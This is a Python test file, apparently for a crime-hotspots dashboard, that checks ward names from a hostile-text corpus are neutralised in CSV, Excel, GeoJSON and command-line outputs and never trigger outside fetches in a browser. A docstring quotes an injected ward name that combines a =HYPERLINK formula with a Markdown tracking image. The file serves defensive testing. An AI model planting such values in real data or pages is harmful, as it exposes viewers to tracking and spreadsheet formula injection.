    _open_page(at, "pages/hotspots.py", area=la_name)
    assert_page_inert(at, f"hotspots {role}")

    got = downloads.data(at, "Download CSV")
    rows = list(csv.DictReader(io.StringIO(got.decode("utf-8-sig"), newline="")))
    assert {r["ward_name"] for r in rows} == {_neutral(w) for w in mine}
    assert {r["local_authority_name"] for r in rows} == {"'" + la_name}
    _assert_no_live_formula(v for r in rows for v in r.values())
    if role == "analyst":
        out = tmp_path / "cli.csv"
        assert (
            main(
                [
                    "--data-dir",
                    str(store.root),
                    "rank",
                    "--from",
                    MONTHS[0],
                    "--to",
                    MONTHS[-1],
                    "--area",
                    la_name,
                    "--out",
                    str(out),
                ]
            )
            == 0
        )
        assert out.read_bytes() == got

    xlsx = downloads.data(at, "Download Excel")
    _assert_workbook_neutral(xlsx, mine | {la_name})
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    method = book["Method and data"]
    assert method["A6"].value == "Area"
    assert method["B6"].value == "'" + la_name and method["B6"].data_type == "s"
    sheet = book["Hotspots"]
    header = [c.value for c in sheet[1]]
    names = {r[header.index("Ward")] for r in sheet.iter_rows(min_row=2, values_only=True)}
    assert names == {_neutral(w) for w in mine}

    doc = json.loads(downloads.data(at, "Download GeoJSON"))
    props = [f["properties"] for f in doc["features"]]
    assert {p["ward_name"] for p in props} == {_neutral(w) for w in mine}
    _assert_no_live_formula(v for p in props for v in p.values())


def test_command_line_outputs_neutralise_names(corpus_store, tmp_path):
    """``wards`` and ``rank`` over every corpus name: the same rule as the downloads."""
    from hotspots.cli import main

    store, wards, _, las = corpus_store
    for command in ("wards", "rank"):
        out = tmp_path / f"{command}.csv"
        assert (
            main(
                [
                    "--data-dir",
                    str(store.root),
                    command,
                    "--from",
                    MONTHS[0],
                    "--to",
                    MONTHS[-1],
                    "--out",
                    str(out),
                ]
            )
            == 0
        )
        rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
        assert {r["ward_name"] for r in rows} == {_neutral(w) for w in wards.values()}
        assert {r["local_authority_name"] for r in rows} == {_neutral(v) for v in las.values()}
        assert {r["police_force"] for r in rows} == {"'" + CORPUS_FORCE}
        _assert_no_live_formula(v for r in rows for v in r.values())


def test_every_corpus_area_has_an_archive_folder():
    """Published packs are kept in a folder named from the area: a name with no ASCII
    letter or digit must still give one (the pack page opens the archive on every run)."""
    from hotspots.outputs.pack import slug

    for text in [*HOSTILE_TEXT.values(), "😀", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629"]:
        if text.strip():
            folder = slug(text)
            assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", folder), (text, folder)
    assert slug("😀") != slug("😀😀") and slug("Vale of Helig") == "vale-of-helig"


# -- in a real browser -------------------------------------------------------------------

#: Everything a page's main area and sidebar would fetch or link to, and what Streamlit's
#: Markdown made of the text: images, links, KaTeX, icons, coloured spans.
JS_RENDERED = """() => {
    const root = document.querySelector('[data-testid="stApp"]');
    const q = (sel) => Array.from(root.querySelectorAll(sel));
    return {
        images: q('img').map(e => e.getAttribute('src') || ''),
        links: q('[data-testid="stMarkdownContainer"] a, [data-testid="stCaptionContainer"] a,'
                 + ' h1 a[href*="evil"], [data-testid="stHeading"] a[href*="evil"]')
               .map(e => e.getAttribute('href') || ''),
        katex: q('.katex').length,
        icons: q('[data-testid="stMarkdownContainer"] span[role="img"]')
               .map(e => e.getAttribute('aria-label')),
        coloured: q('[data-testid="stMarkdownContainer"] span[style*="color"],'
                    + ' [data-testid="stMarkdownContainer"] span[class*="Badge"]')
                  .map(e => e.innerText),
        scripts: q('script').length,
        text: root.innerText,
    };
}"""


def _visible(text: str) -> str:
    return re.sub(
        r"\s+", " ", text.replace(WORD_JOINER, "").replace("\u2068", "").replace("\u2069", "")
    )


@pytest.mark.browser
@pytest.mark.slow
def test_browser_never_fetches_a_planted_image(corpus_store, tracker):
    """The reproduction: a ward named ``=HYPERLINK(…) ![t](http://127.0.0.1:PORT/track.png)``
    made every viewer of Home and the pack fetch the image. Home, the pack and two ward
    profiles in Chromium: the tracker gets no request, the pages hold no image, link,
    KaTeX, icon or coloured text from a name, and the names read as given."""
    from playwright.sync_api import sync_playwright

    from tests.browser_support import (
        CHROMIUM,
        CHROMIUM_ARGS,
        loaded,
        local_only,
        need_chromium,
        outside,
        running_app,
        wait_ready,
    )

    need_chromium()
    store, wards, la_of, las = corpus_store
    codes = {label: code for label, code in zip(HOSTILE_TEXT, wards, strict=True)}
    la_name = las["X06000001"]
    from urllib.parse import urlencode, urlparse

    _Tracker.hits.clear()
    visits = [
        ("", {"area": la_name}, "Top five wards now"),
        ("pack", {"area": la_name}, "Summary"),
        ("profile", {"ward": codes["colour"]}, "Month by month"),
        ("profile", {"ward": codes["latex"]}, "Month by month"),
        ("profile", {"ward": codes["material"]}, "Month by month"),
    ]
    with (
        running_app(
            {
                "HOTSPOTS_DATA_DIR": str(store.root),
                "HOTSPOTS_ACCOUNTS": str(store.root / "no-accounts.toml"),
            }
        ) as url,
        sync_playwright() as p,
    ):
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1400, "height": 1000})
        requests: list[str] = []
        local_only(context, requests)
        page = context.new_page()
        try:
            for path, query, heading in visits:
                page.goto(f"{url}/{path}?{urlencode({'def': 'police-uk-proxy', **query})}")
                page.get_by_text(heading, exact=True).first.wait_for(timeout=120_000)
                wait_ready(page)
                loaded(page, None)  # every table and chart drawn
                got = page.evaluate(JS_RENDERED)
                where = f"/{path} {query}"
                port = str(tracker.server_port)
                assert not [s for s in got["images"] if "track" in s or port in s], (
                    where,
                    got["images"],
                )
                assert not [h for h in got["links"] if "evil" in h or "track" in h], (
                    where,
                    got["links"],
                )
                # the only icon and coloured text: the dashboard's own "Open access" badge
                assert got["katex"] == 0, (where, got)
                assert set(got["icons"]) <= {"lock_open icon"}, (where, got["icons"])
                assert all("Open access" in t for t in got["coloured"]), (where, got["coloured"])
                text = _visible(got["text"])
                if path == "":
                    for code, name in wards.items():
                        if la_of[code] == "X06000001":
                            assert _visible(_shown(name)) in text, (where, name)
                if path == "profile":
                    assert _visible(_shown(wards[query["ward"]])) in text, where
        finally:
            context.close()
            browser.close()
    assert _Tracker.hits == [], _Tracker.hits
    assert not [u for u in requests if urlparse(u).port == tracker.server_port], requests
    assert outside(requests) == []
